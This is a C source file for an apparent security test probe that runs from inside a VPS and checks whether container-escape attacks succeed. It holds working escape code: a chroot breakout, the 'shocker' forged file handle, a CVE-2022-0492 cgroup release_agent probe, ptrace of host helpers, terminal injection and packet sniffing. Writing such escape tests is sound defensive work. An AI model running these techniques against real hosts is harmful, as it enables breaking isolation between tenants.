// Attacks of the escape battery (Tests/security/escape.sh, security.md §1) that need system
// calls busybox has no applet for. Built static on the host, copied into a VPS, run as its root.
//   probe ATTACK [ARGS...]
// Prints one line: "blocked: ..." (exit 0: the attack had no effect) or "OPEN: ..." (exit 1).
// Exit 2: usage or set-up error. Nothing here writes to a host object it reaches by accident:
// a write that would succeed is never completed (opened, then closed unwritten).
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/bpf.h>
#include <linux/btrfs.h>
#include <linux/filter.h>
#include <linux/if_ether.h>
#include <linux/keyctl.h>
#include <linux/perf_event.h>
#include <netinet/ip.h>
#include <netpacket/packet.h>
#include <poll.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/inotify.h>
#include <sys/shm.h>
#include <sys/ioctl.h>
#include <sys/klog.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/time.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

static int blocked(const char *what) { printf("blocked: %s\n", what); return 0; }
static int open_(const char *what) { printf("OPEN: %s\n", what); return 1; }

/* E01: the classic chroot escape; the host-only marker file must stay out of reach. */
static int chroot_escape(const char *marker) {
    mkdir("/tmp/.berth-chroot", 0700);
    if (chroot("/tmp/.berth-chroot") != 0) return blocked("chroot refused");
    for (int i = 0; i < 64; i++) chdir("..");
    chroot(".");
    if (access(marker, F_OK) == 0) return open_("the host marker is visible after the chroot escape");
    return blocked("the escape lands at the VPS root");
}

/* E04: "shocker": a forged handle of inode 2 (the root of most filesystems). */
static int handle_open(void) {
    struct { struct file_handle h; unsigned char bytes[128]; } handle;
    handle.h.handle_bytes = 128;
    int mount_id;
    int named = name_to_handle_at(AT_FDCWD, "/", &handle.h, &mount_id, 0);
    if (named == 0) {
        handle.h.handle_type = 1; /* FILEID_INO32_GEN */
        unsigned int ino = 2, gen = 0;
        memcpy(handle.h.f_handle, &ino, 4);
        memcpy(handle.h.f_handle + 4, &gen, 4);
        handle.h.handle_bytes = 8;
    }
    int root = open("/", O_RDONLY | O_DIRECTORY);
    int fd = open_by_handle_at(root, &handle.h, O_RDONLY);
    if (fd >= 0) return open_("open_by_handle_at opened a forged handle");
    static char why[96];
    snprintf(why, sizeof why, "open_by_handle_at: %s", strerror(errno));
    return blocked(why);
}

/* E16/E17: module loading and kexec straight through the system calls. Blocked means refused
   for lack of privilege (EPERM) or by the filter (EPERM/ENOSYS), before any argument is read. */
static int refused(long result) { return result < 0 && (errno == EPERM || errno == ENOSYS); }
static int kernel_load(void) {
    int opened = 0;
    if (!refused(syscall(SYS_init_module, NULL, 0, ""))) { printf("init_module: %s\n", strerror(errno)); opened = 1; }
    if (!refused(syscall(SYS_finit_module, -1, "", 0))) { printf("finit_module: %s\n", strerror(errno)); opened = 1; }
    if (!refused(syscall(SYS_delete_module, "berth_none", 0))) { printf("delete_module: %s\n", strerror(errno)); opened = 1; }
    if (!refused(syscall(SYS_kexec_load, 0, 0, NULL, 0))) { printf("kexec_load: %s\n", strerror(errno)); opened = 1; }
    if (!refused(syscall(SYS_kexec_file_load, -1, -1, 0, "", 0))) { printf("kexec_file_load: %s\n", strerror(errno)); opened = 1; }
    return opened ? open_("a module or kexec call got past the privilege checks") : blocked("init/finit/delete_module and kexec_load/kexec_file_load refused");
}

/* E18: the host clock. */
static int set_time(void) {
    struct timespec now;
    clock_gettime(CLOCK_REALTIME, &now);
    struct timespec later = now;
    later.tv_sec += 3600L * 24 * 365 * 10;
    if (clock_settime(CLOCK_REALTIME, &later) == 0) { clock_settime(CLOCK_REALTIME, &now); return open_("clock_settime moved the clock"); }
    struct timeval tv = { .tv_sec = later.tv_sec, .tv_usec = 0 };
    if (settimeofday(&tv, NULL) == 0) { clock_settime(CLOCK_REALTIME, &now); return open_("settimeofday moved the clock"); }
    return blocked("clock_settime and settimeofday refused");
}

/* E19: kernel keyrings: a key the host put in its root user's keyring must not be found. */
static int keyring_add(const char *description) {
    long id = syscall(SYS_add_key, "user", description, "berth", 5, KEY_SPEC_USER_KEYRING);
    if (id < 0) { perror("add_key"); return 2; }
    syscall(SYS_keyctl, KEYCTL_SET_TIMEOUT, id, 120); /* a witness, not a leftover */
    printf("%ld\n", id);
    return 0;
}
static int keyring_find(const char *description) {
    long id = syscall(SYS_keyctl, KEYCTL_SEARCH, KEY_SPEC_USER_KEYRING, "user", description, 0);
    if (id >= 0) return open_("found the host's key");
    if (syscall(SYS_add_key, "user", "berth-vps-key", "x", 1, KEY_SPEC_USER_KEYRING) >= 0) {
        printf("note: keyrings usable inside (own keyring)\n");
    }
    return blocked("the host's key is out of reach");
}

/* E20: kernel attack surface. */
static int kernel_surface(void) {
    int opened = 0;
    char buffer[64];
    if (klogctl(3, buffer, sizeof buffer) >= 0) { printf("syslog read the kernel log\n"); opened = 1; }
    struct perf_event_attr attr;
    memset(&attr, 0, sizeof attr);
    attr.type = PERF_TYPE_SOFTWARE;
    attr.size = sizeof attr;
    attr.config = PERF_COUNT_SW_CPU_CLOCK;
    attr.exclude_kernel = 1;
    long perf = syscall(SYS_perf_event_open, &attr, 0, -1, -1, 0);
    if (perf >= 0) { printf("perf_event_open worked\n"); opened = 1; close((int)perf); }
    struct bpf_insn program[] = { { .code = BPF_ALU64 | BPF_MOV | BPF_K, .dst_reg = 0, .imm = 0 }, { .code = BPF_JMP | BPF_EXIT } };
    union bpf_attr load;
    memset(&load, 0, sizeof load);
    load.prog_type = BPF_PROG_TYPE_SOCKET_FILTER;
    load.insns = (unsigned long)program;
    load.insn_cnt = 2;
    load.license = (unsigned long)"GPL";
    long prog = syscall(SYS_bpf, BPF_PROG_LOAD, &load, sizeof load);
    if (prog >= 0) { printf("bpf(BPF_PROG_LOAD) worked\n"); opened = 1; close((int)prog); }
    long uffd = syscall(SYS_userfaultfd, 0);
    if (uffd >= 0) { printf("userfaultfd worked\n"); opened = 1; close((int)uffd); }
    long ring = syscall(425 /* io_uring_setup */, 1, buffer);
    if (ring >= 0) { printf("io_uring_setup worked\n"); opened = 1; close((int)ring); }
    return opened ? open_("a kernel attack surface call worked") : blocked("syslog, perf_event_open, bpf, userfaultfd, io_uring refused");
}

/* E21: CVE-2022-0492: a fresh cgroup namespace in a nested user namespace, a v1 mount and
   its release_agent. */
static int write_file(const char *path, const char *text) {
    int fd = open(path, O_WRONLY);
    if (fd < 0) return -1;
    ssize_t n = write(fd, text, strlen(text));
    close(fd);
    return n == (ssize_t)strlen(text) ? 0 : -1;
}
static int release_agent(void) {
    /* Already-writable release_agent files in the VPS's own view. */
    const char *candidates[] = { "/sys/fs/cgroup/release_agent", "/sys/fs/cgroup/memory/release_agent",
                                 "/sys/fs/cgroup/systemd/release_agent", "/sys/fs/cgroup/pids/release_agent", NULL };
    for (int i = 0; candidates[i]; i++) {
        int fd = open(candidates[i], O_WRONLY);
        if (fd >= 0) { close(fd); printf("%s is writable\n", candidates[i]); return open_("a release_agent is writable"); }
    }
    pid_t child = fork();
    if (child == 0) {
        uid_t uid = getuid();
        gid_t gid = getgid();
        if (unshare(CLONE_NEWUSER | CLONE_NEWNS | CLONE_NEWCGROUP) != 0) { printf("nested unshare refused: %s\n", strerror(errno)); _exit(0); }
        char map[64];
        snprintf(map, sizeof map, "0 %u 1", uid);
        write_file("/proc/self/setgroups", "deny");
        write_file("/proc/self/uid_map", map);
        snprintf(map, sizeof map, "0 %u 1", gid);
        write_file("/proc/self/gid_map", map);
        mkdir("/tmp/.berth-cg", 0700);
        const char *options[] = { "rdma", "net_cls", "none,name=berthprobe", "memory", "pids", NULL };
        for (int i = 0; options[i]; i++) {
            if (mount("cgroup", "/tmp/.berth-cg", "cgroup", 0, options[i]) != 0) continue;
            int fd = open("/tmp/.berth-cg/release_agent", O_WRONLY);
            if (fd >= 0) { printf("mounted cgroup -o %s with a writable release_agent\n", options[i]); close(fd); _exit(1); }
            umount("/tmp/.berth-cg");
        }
        _exit(0);
    }
    int status = 0;
    waitpid(child, &status, 0);
    if (WIFEXITED(status) && WEXITSTATUS(status) == 1) return open_("release_agent writable through a nested cgroup mount");
    return blocked("no writable release_agent, also not through a nested user+cgroup namespace mount");
}

static int read_comm(pid_t pid, char *name, size_t size) {
    char path[64];
    snprintf(path, sizeof path, "/proc/%d/comm", pid);
    int fd = open(path, O_RDONLY);
    if (fd < 0) return 0;
    ssize_t n = read(fd, name, size - 1);
    close(fd);
    return n > 0;
}

/* Whether this VPS can trace the exec helper `pid` (its comm said "berth..." a moment ago). That
   comm was read before the seize: by then the helper may have exec'd the operator's command,
   which the VPS may trace like any of its processes. An exe only ever changes from the helper to
   the command, so an exe still naming berth once the seize succeeded means the helper itself was
   reachable. Seize, unlike attach, sends no SIGSTOP that would outlive this probe; the tracee is
   stopped and detached cleanly. */
/* The helper at work for the operator: its exe is berth-spawn and its arguments still say which
   role (`berth-spawn exec --init-pid ...`). A command the VPS made run the helper's binary itself
   ('#!/proc/self/exe', E25) has the interpreter's arguments instead: it is the VPS's own command,
   as traceable as any other, and only the read-only bind keeps its exe from being written. */
static int helper_at_work(pid_t pid) {
    char path[64], target[512], args[256];
    snprintf(path, sizeof path, "/proc/%d/exe", pid);
    ssize_t n = readlink(path, target, sizeof target - 1);
    if (n <= 0) return 0;
    target[n] = 0;
    if (!strstr(target, "berth")) return 0;
    snprintf(path, sizeof path, "/proc/%d/cmdline", pid);
    int fd = open(path, O_RDONLY);
    if (fd < 0) return 0;
    ssize_t len = read(fd, args, sizeof args - 1);
    close(fd);
    if (len <= 0) return 0;
    args[len] = 0;
    const char *role = args + strlen(args) + 1; /* the second argument */
    return role < args + len && (!strcmp(role, "exec") || !strcmp(role, "start") || !strcmp(role, "configure"));
}

static int helper_traceable(pid_t pid) {
    if (ptrace(PTRACE_SEIZE, pid, 0, 0) != 0) return 0;
    int reachable = helper_at_work(pid);
    int status;
    if (ptrace(PTRACE_INTERRUPT, pid, 0, 0) == 0 && waitpid(pid, &status, __WALL) == pid && WIFSTOPPED(status)) {
        ptrace(PTRACE_DETACH, pid, 0, 0);
    }
    return reachable;
}

/* E24/E25/E26: watch new processes while an operator runs exec: ptrace them, open their exe
   for writing (never writing), look for host fds, cwd and environment. `marker`: a host path
   prefix that must never show up. */
static int watch(int seconds, const char *marker) {
    time_t end = time(NULL) + seconds;
    int findings = 0;
    pid_t self = getpid();
    while (time(NULL) < end && !findings) {
        DIR *proc = opendir("/proc");
        struct dirent *entry;
        while (proc && (entry = readdir(proc))) {
            pid_t pid = atoi(entry->d_name);
            if (pid <= 1 || pid == self) continue;
            char path[64], target[512];
            snprintf(path, sizeof path, "/proc/%d/exe", pid);
            int exe = open(path, O_WRONLY);
            if (exe >= 0) { close(exe); printf("opened %s for writing\n", path); findings = 1; }
            for (int fd = 0; fd < 16; fd++) {
                snprintf(path, sizeof path, "/proc/%d/fd/%d", pid, fd);
                ssize_t n = readlink(path, target, sizeof target - 1);
                if (n > 0) { target[n] = 0; if (strstr(target, marker)) { printf("pid %d fd %d -> %s\n", pid, fd, target); findings = 1; } }
            }
            snprintf(path, sizeof path, "/proc/%d/cwd", pid);
            ssize_t n = readlink(path, target, sizeof target - 1);
            if (n > 0) { target[n] = 0; if (strstr(target, marker)) { printf("pid %d cwd %s\n", pid, target); findings = 1; } }
            snprintf(path, sizeof path, "/proc/%d/environ", pid);
            int env = open(path, O_RDONLY);
            if (env >= 0) {
                char buffer[8192];
                ssize_t got = read(env, buffer, sizeof buffer - 1);
                close(env);
                for (ssize_t i = 0; i < got; i++) if (buffer[i] == 0) buffer[i] = '\n';
                if (got > 0) { buffer[got] = 0; if (strstr(buffer, "BERTH_") || strstr(buffer, marker)) { printf("pid %d environment leaks the host's\n", pid); findings = 1; } }
            }
            char name[32] = {0};
            if (read_comm(pid, name, sizeof name) && strncmp(name, "berth", 5) == 0 && helper_traceable(pid)) {
                printf("ptrace-attached the helper %d (%s)\n", pid, name);
                findings = 1;
            }
        }
        if (proc) closedir(proc);
        usleep(2000);
    }
    return findings ? open_("the exec path exposed the host") : blocked("nothing of the exec path was reachable");
}

/* E27: push a command into the terminal this runs on. */
static int tiocsti(const char *command) {
    int pushed = 0;
    for (const char *c = command; *c; c++) if (ioctl(0, TIOCSTI, c) == 0) pushed++;
    printf("TIOCSTI pushed %d of %zu bytes into this VPS's own terminal (%s)\n", pushed, strlen(command), pushed ? "ok" : strerror(errno));
    return 0;
}

/* E28: sniff: any IPv4 packet on the VPS's interfaces that is neither from nor to `mine`. */
static int sniff(int seconds, const char *mine) {
    struct in_addr own;
    if (inet_pton(AF_INET, mine, &own) != 1) return 2;
    int sock = socket(AF_PACKET, SOCK_RAW, htons(ETH_P_ALL));
    if (sock < 0) { printf("no packet socket: %s\n", strerror(errno)); return blocked("no raw socket"); }
    time_t end = time(NULL) + seconds;
    int foreign = 0, total = 0;
    unsigned char frame[2048];
    while (time(NULL) < end) {
        struct pollfd p = { .fd = sock, .events = POLLIN };
        if (poll(&p, 1, 100) <= 0) continue;
        ssize_t n = recv(sock, frame, sizeof frame, 0);
        if (n < (ssize_t)(14 + sizeof(struct iphdr))) continue;
        if (frame[12] != 0x08 || frame[13] != 0x00) continue;
        struct iphdr *ip = (struct iphdr *)(frame + 14);
        total++;
        if (ip->saddr != own.s_addr && ip->daddr != own.s_addr) foreign++;
    }
    printf("%d IPv4 packets seen, %d not this VPS's\n", total, foreign);
    return foreign ? open_("saw another VPS's traffic") : blocked("only this VPS's own traffic is visible");
}

/* E36: real-time scheduling escapes the CPU limit. */
static int sched_fifo(void) {
    struct sched_param param = { .sched_priority = 50 };
    if (sched_setscheduler(0, SCHED_FIFO, &param) == 0) return open_("SCHED_FIFO granted");
    return blocked("SCHED_FIFO refused");
}

/* E38: per-user kernel objects: inotify instances and sockets until the limits answer. */
static int exhaust(int hold_seconds) {
    int inotify = 0, sockets = 0;
    while (inotify < 100000 && inotify_init1(IN_CLOEXEC) >= 0) inotify++;
    int inotify_errno = errno;
    while (sockets < 1000000 && socket(AF_INET, SOCK_DGRAM, 0) >= 0) sockets++;
    int socket_errno = errno;
    int segment = shmget(IPC_PRIVATE, 1 << 20, IPC_CREAT | 0600);
    printf("inotify instances: %d (%s), sockets: %d (%s), SysV segment %d\n", inotify, strerror(inotify_errno), sockets,
           strerror(socket_errno), segment);
    printf("holding\n");
    fflush(stdout);
    sleep(hold_seconds);
    if (segment >= 0) shmctl(segment, IPC_RMID, NULL);
    return 0;
}

/* A subvolume or snapshot of its own would hold data that the quota group of the VPS's
   subvolume does not count (a pool VPS's disk limit, StoragePool.swift). */
static int subvolume(const char *dir) {
    int fd = open(dir, O_RDONLY | O_DIRECTORY);
    if (fd < 0) { printf("open %s: %s\n", dir, strerror(errno)); return 2; }
    struct btrfs_ioctl_vol_args args;
    memset(&args, 0, sizeof args);
    strcpy(args.name, ".berth-probe-subvolume");
    if (ioctl(fd, BTRFS_IOC_SUBVOL_CREATE, &args) == 0) return open_("made a btrfs subvolume of its own");
    int subvolume_errno = errno;
    struct btrfs_ioctl_vol_args_v2 snapshot;
    memset(&snapshot, 0, sizeof snapshot);
    snapshot.fd = fd;
    strcpy(snapshot.name, ".berth-probe-snapshot");
    if (ioctl(fd, BTRFS_IOC_SNAP_CREATE_V2, &snapshot) == 0) return open_("made a btrfs snapshot of its own");
    printf("subvolume: %s, snapshot: %s\n", strerror(subvolume_errno), strerror(errno));
    return blocked("btrfs subvolume and snapshot creation refused");
}

int main(int argc, char **argv) {
    if (argc < 2) { fprintf(stderr, "usage: probe ATTACK [ARGS]\n"); return 2; }
    const char *attack = argv[1];
    if (!strcmp(attack, "chroot-escape") && argc == 3) return chroot_escape(argv[2]);
    if (!strcmp(attack, "handle-open")) return handle_open();
    if (!strcmp(attack, "kernel-load")) return kernel_load();
    if (!strcmp(attack, "set-time")) return set_time();
    if (!strcmp(attack, "keyring-add") && argc == 3) return keyring_add(argv[2]);
    if (!strcmp(attack, "keyring-find") && argc == 3) return keyring_find(argv[2]);
    if (!strcmp(attack, "kernel-surface")) return kernel_surface();
    if (!strcmp(attack, "release-agent")) return release_agent();
    if (!strcmp(attack, "watch") && argc == 4) return watch(atoi(argv[2]), argv[3]);
    if (!strcmp(attack, "tiocsti") && argc == 3) return tiocsti(argv[2]);
    if (!strcmp(attack, "sniff") && argc == 4) return sniff(atoi(argv[2]), argv[3]);
    if (!strcmp(attack, "sched-fifo")) return sched_fifo();
    if (!strcmp(attack, "exhaust") && argc == 3) return exhaust(atoi(argv[2]));
    if (!strcmp(attack, "subvolume") && argc == 3) return subvolume(argv[2]);
    fprintf(stderr, "probe: unknown attack or arguments: %s\n", attack);
    return 2;
}
